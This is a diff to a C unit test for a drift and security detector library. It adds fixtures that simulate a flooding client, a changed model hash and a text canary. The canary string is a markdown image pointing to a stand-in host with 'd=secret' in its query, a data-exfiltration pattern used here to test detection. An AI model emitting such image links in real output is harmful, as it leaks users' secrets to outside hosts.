@@ -94,6 +94,16 @@ static struct driftd_value value_for(const struct driftd_detector_ops *ops, unsi
                                      double buf[VDIM])
 {
 	double u = unit_at(i);
+	if ((ops->accepts & DRIFTD_ACCEPTS(DRIFTD_VALUE_STRING)) && !wants_vectors(ops) &&
+	    !(ops->accepts & DRIFTD_ACCEPTS(DRIFTD_VALUE_NUMBER))) {
+		/* text detectors (canary): a markdown image to an unknown host now and then
+		 * after the change point */
+		static const char plain[] = "The answer is 42.";
+		static const char leak[] = "Done. ![x](https://evil.example/p.png?d=secret)";
+		const char *t = i > 200 && u < 0.2 ? leak : plain;
+		return (struct driftd_value){
+		    .type = DRIFTD_VALUE_STRING, .str = t, .len = strlen(t)};
+	}
 	if (ops->accepts & DRIFTD_ACCEPTS(DRIFTD_VALUE_BOOL))
 		return (struct driftd_value){.type = DRIFTD_VALUE_BOOL,
 		                             .num = u < (i > 200 ? 0.6 : 0.1) ? 1 : 0};
@@ -103,6 +113,28 @@ static struct driftd_value value_for(const struct driftd_detector_ops *ops, unsi
 	buf[1] = unit_at(i + 100003) - 0.5 * value_at(i);
 	buf[2] = unit_at(i + 200003);
 	return (struct driftd_value){.type = DRIFTD_VALUE_VECTOR, .vec = buf, .dim = VDIM};
+}
+
+/* The event around value v for detectors with update_event: five steady clients, then one
+ * flooding client and a changed model hash, the security detectors' change point. */
+static struct driftd_event event_for(unsigned i, const struct driftd_value *v)
+{
+	static const char *const clients[] = {"c0", "c1", "c2", "c3", "c4", "flood"};
+	static const char sha_a[] =
+	    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
+	static const char sha_b[] =
+	    "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb";
+	const char *cl = clients[i > 200 && unit_at(i + 7) < 0.5 ? 5 : i % 5];
+	const char *sha = i > 250 ? sha_b : sha_a;
+	return (struct driftd_event){
+	    .value = v,
+	    .model_id = {"m", 1},
+	    .model_version = {"1", 1},
+	    .model_sha256 = {sha, 64},
+	    .client_id = {cl, strlen(cl)},
+	    .request_id = {"r", 1},
+	    .ts_ms = 1000 * (int64_t)i,
+	};
 }
 
 /* Feed n values through the host protocol (reference first where the kind needs one);
@@ -123,14 +155,27 @@ static void feed(struct dd_instance *in, unsigned from, unsigned n, unsigned *re
 				assert_int_equal(ops->reference_done(&in->ctx), 0);
 			continue;
 		}
+		struct driftd_event ev = event_for(i, &v);
 		counting = 1;
-		int rc = ops->update(&in->ctx, &v);
+		int rc = ops->update_event ? ops->update_event(&in->ctx, &ev)
+		                           : ops->update(&in->ctx, &v);
 		counting = 0;
 		assert_int_equal(rc, 0);
 		if (driftd_kind_uses_reference(ops->kind) && ++*win_n < WIN)
 			continue;
 		struct driftd_verdict out = {.p_value = NAN};
 		assert_int_equal(ops->evaluate(&in->ctx, &out), 0);
+		/* evidence comes with breaches only, and is well formed */
+		if (out.evidence) {
+			assert_true(out.drift);
+			assert_true(out.evidence->n <= DRIFTD_EVIDENCE_MAX);
+			for (size_t k = 0; k < out.evidence->n; k++) {
+				assert_non_null(out.evidence->f[k].key);
+				if (out.evidence->f[k].type == DRIFTD_EVIDENCE_STRING)
+					assert_non_null(out.evidence->f[k].str);
+			}
+			*sig += (double)out.evidence->n;
+		}
 		*sig = *sig * 31 + out.score + (out.drift ? 1e6 : 0) + (out.warning ? 1e3 : 0) +
 		       (isnan(out.p_value) ? 0 : out.p_value);
 		if (driftd_kind_uses_reference(ops->kind)) {
@@ -176,6 +221,17 @@ static void test_table(void **unused)
 		assert_non_null(ops->restore);
 		assert_non_null(ops->done);
 		assert_true(ops->accepts != 0);
+		/* security detectors say which threat and clauses their alerts serve */
+		if (ops->kind == DRIFTD_KIND_SECURITY) {
+			assert_non_null(ops->tags);
+			bool threat = false, etsi = false;
+			for (size_t k = 0; ops->tags[k]; k++) {
+				threat |= strncmp(ops->tags[k], "threat:", 7) == 0;
+				etsi |= strncmp(ops->tags[k], "etsi:", 5) == 0;
+			}
+			assert_true(threat && etsi);
+			assert_false(driftd_kind_uses_reference(ops->kind));
+		}
 		if (driftd_kind_uses_reference(ops->kind))
 			assert_non_null(ops->reference_add);
 		assert_true(!(ops->caps & DRIFTD_CAP_MERGE) || ops->merge);
@@ -190,6 +246,8 @@ static void test_table(void **unused)
 				while (p->choices[n])
 					n++;
 				assert_true(p->def >= 0 && p->def < n);
+			} else if (p->type >= DRIFTD_PARAM_STRING) {
+				assert_true(p->type != DRIFTD_PARAM_LIST || p->def_str == NULL);
 			} else if (p->type != DRIFTD_PARAM_BOOL) {
 				assert_true(p->def >= p->min && p->def <= p->max);
 				assert_false(p->min_open && p->def == p->min);
